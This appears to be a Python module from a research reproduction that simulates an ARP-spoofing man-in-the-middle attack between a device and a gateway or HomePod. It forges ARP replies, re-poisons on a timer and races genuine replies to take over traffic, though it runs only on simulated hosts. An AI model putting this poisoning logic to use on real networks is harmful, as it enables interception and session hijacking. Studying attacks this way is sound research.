"""ARP spoofing: the session-hijack mechanism (Section III-B).

The attacker repeatedly sends unsolicited ARP replies so that each victim
maps the *other* victim's IP address to the attacker's MAC: the device
resolves the gateway (or the HomePod) to the attacker, and the gateway
resolves the device to the attacker.  All IP traffic between the pair then
flows through the attacker's NIC, where the
:class:`~repro.core.hijacker.TcpHijacker` takes over.

Victims re-ARP when their cache entries expire; the spoofer both re-poisons
on a short period and answers observed ARP requests, so genuine mappings
survive only for a few milliseconds — long enough to be realistic, short
enough that a slipped packet merely reorders (TCP reassembly repairs it).

Each target's poison reply never changes, so it is built once, when the
pair is poisoned, and every re-poison sends that same immutable
:class:`~repro.simnet.packet.ArpPacket` in a new frame.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from ..simnet.host import Host
from ..simnet.packet import ArpPacket, EthernetFrame

if TYPE_CHECKING:  # pragma: no cover
    from ..simnet.scheduler import Simulator

#: How often the poison is refreshed; must stay well under the ARP TTL.
DEFAULT_REPOISON_PERIOD = 5.0
#: Delay before answering an observed ARP request with poison, so our reply
#: lands after (and overrides) the genuine one.
REQUEST_OVERRIDE_DELAY = 0.050


@dataclass(frozen=True)
class SpoofTarget:
    """One poisoned pair: make each endpoint see us as the other."""

    victim_ip: str
    victim_mac: str
    impersonated_ip: str


class ArpSpoofer:
    """Keeps a set of victim pairs poisoned from the attacker host."""

    def __init__(self, host: Host, period: float = DEFAULT_REPOISON_PERIOD) -> None:
        self.host = host
        self.sim: "Simulator" = host.sim
        self.period = period
        #: Each poisoned target with its poison reply, built once and re-sent.
        self.targets: list[tuple[SpoofTarget, ArpPacket]] = []
        self._running = False
        self._timer = None
        self.replies_sent = 0
        host.frame_taps.append(self._on_frame)

    # -------------------------------------------------------------- control

    def poison_pair(self, ip_a: str, mac_a: str, ip_b: str, mac_b: str) -> None:
        """Interpose between two LAN endpoints (device and gateway/HomePod)."""
        for target in (
            SpoofTarget(victim_ip=ip_a, victim_mac=mac_a, impersonated_ip=ip_b),
            SpoofTarget(victim_ip=ip_b, victim_mac=mac_b, impersonated_ip=ip_a),
        ):
            # Claim the impersonated IP for our MAC: ARP spoofing, verbatim.
            poison = ArpPacket(
                op="reply",
                sender_mac=self.host.mac,
                sender_ip=target.impersonated_ip,
                target_mac=target.victim_mac,
                target_ip=target.victim_ip,
            )
            self.targets.append((target, poison))
        if self._running:
            self._poison_all()

    def start(self) -> None:
        if self._running:
            return
        self._running = True
        self._poison_all()
        self._timer = self.sim.schedule_periodic(
            self.period, self._poison_all, label="arp-spoof"
        )

    def stop(self) -> None:
        self._running = False
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None

    # ------------------------------------------------------------ poisoning

    def _poison_all(self) -> None:
        # The periodic tick sends nearly half of a campaign's LAN frames, so
        # it transmits them itself rather than once per target through
        # _send_poison.
        host = self.host
        transmit, mac, nic = host.lan.transmit, host.mac, host.nic
        for target, poison in self.targets:
            transmit(EthernetFrame(mac, target.victim_mac, poison), nic)
        self.replies_sent += len(self.targets)

    def _send_poison(self, target: SpoofTarget, poison: ArpPacket) -> None:
        self.replies_sent += 1
        host = self.host
        host.lan.transmit(EthernetFrame(host.mac, target.victim_mac, poison), host.nic)

    # ---------------------------------------------------- request overriding

    def _on_frame(self, frame: EthernetFrame) -> None:
        """Overhear victim ARP requests and race the genuine reply."""
        if not self._running or not isinstance(frame.payload, ArpPacket):
            return
        arp = frame.payload
        if arp.op != "request":
            return
        for target, poison in self.targets:
            if arp.sender_ip == target.victim_ip and arp.target_ip == target.impersonated_ip:
                self.sim.post(
                    REQUEST_OVERRIDE_DELAY,
                    self._override,
                    target,
                    poison,
                    label="arp-spoof-override",
                )

    def _override(self, target: SpoofTarget, poison: ArpPacket) -> None:
        """Send a request override unless the spoofer stopped meanwhile."""
        if self._running:
            self._send_poison(target, poison)
